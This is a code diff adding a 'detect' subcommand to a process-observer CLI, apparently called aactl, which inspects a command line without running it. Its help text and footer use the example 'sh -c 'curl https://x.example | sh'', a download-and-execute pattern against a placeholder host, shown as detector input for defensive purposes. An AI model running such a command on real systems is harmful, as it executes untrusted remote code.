@@ -26,6 +26,7 @@ constexpr const char* kExamples =
     "  sudo aactl events --type exec,exit   follow events; piped, they are JSON Lines\n"
     "  sudo aactl tree                      who started whom, ended processes included\n"
     "  sudo aactl ancestry 4300             how a process came to be, from pid 1 down\n"
+    "  sudo aactl detect -- sh -c 'curl x'  what the detector would say of a command line\n"
     "  sudo aactl status                    is the observer well, and what did it miss\n"
     "\n"
     "Exit status: 0 done, 1 refused, 2 wrong usage, 3 daemon not reachable;\n"
@@ -133,6 +134,14 @@ void add_lineage(CLI::App& app, Arguments& in, Verb& verb) {
   ancestry->callback([&in, &verb] { verb = [&in] { return aa::ancestry(in.globals, in.ancestry); }; });
 }
 
+void add_detect(CLI::App& app, Arguments& in, Verb& verb) {
+  CLI::App* sub = app.add_subcommand("detect", "Say what the detector makes of a command line, without running it");
+  sub->footer(
+      "The command follows --, as in: aactl detect -- COMMAND [ARGUMENT...]\n"
+      "Example: sudo aactl detect -- sh -c 'curl https://x.example | sh'");
+  sub->callback([&in, &verb] { verb = [&in] { return aa::detect(in.globals, in.run.command); }; });
+}
+
 void add_status(CLI::App& app, Arguments& in, Verb& verb) {
   CLI::App* sub = app.add_subcommand("status", "Show version, probes, counters, losses and targets");
   sub->footer("Example: sudo aactl status");
@@ -167,6 +176,7 @@ int main_checked(int argc, char** argv) {
   add_targets(app, in, verb);
   add_events(app, in, verb);
   add_lineage(app, in, verb);
+  add_detect(app, in, verb);
   add_status(app, in, verb);
 
   bool dashes = false;
@@ -178,12 +188,18 @@ int main_checked(int argc, char** argv) {
   } catch (const CLI::ParseError& error) {
     if (error.get_exit_code() == 0) return app.exit(error);
     if (app.get_subcommands().empty() && own.front().front() != '-') return usage_error("unknown verb: " + own.front());
-    if (app.got_subcommand("run") && !dashes) return usage_error("put -- before the command: aactl run -- COMMAND");
+    for (const char* name : {"run", "detect"}) {
+      if (app.got_subcommand(name) && !dashes)
+        return usage_error("put -- before the command: aactl " + std::string(name) + " -- COMMAND");
+    }
     return usage_error(error.what());
   }
-  const bool runs = app.got_subcommand("run");
-  if (runs && in.run.command.empty()) return usage_error("no command to run: aactl run -- COMMAND");
-  if (!runs && dashes) return usage_error("only run takes a command after --");
+  const bool detects = app.got_subcommand("detect");
+  const bool wants_command = detects || app.got_subcommand("run");
+  if (wants_command && in.run.command.empty())
+    return usage_error("no command " + std::string(detects ? "to look at: aactl detect" : "to run: aactl run") +
+                       " -- COMMAND");
+  if (!wants_command && dashes) return usage_error("only run and detect take a command after --");
   return verb();
 }
 
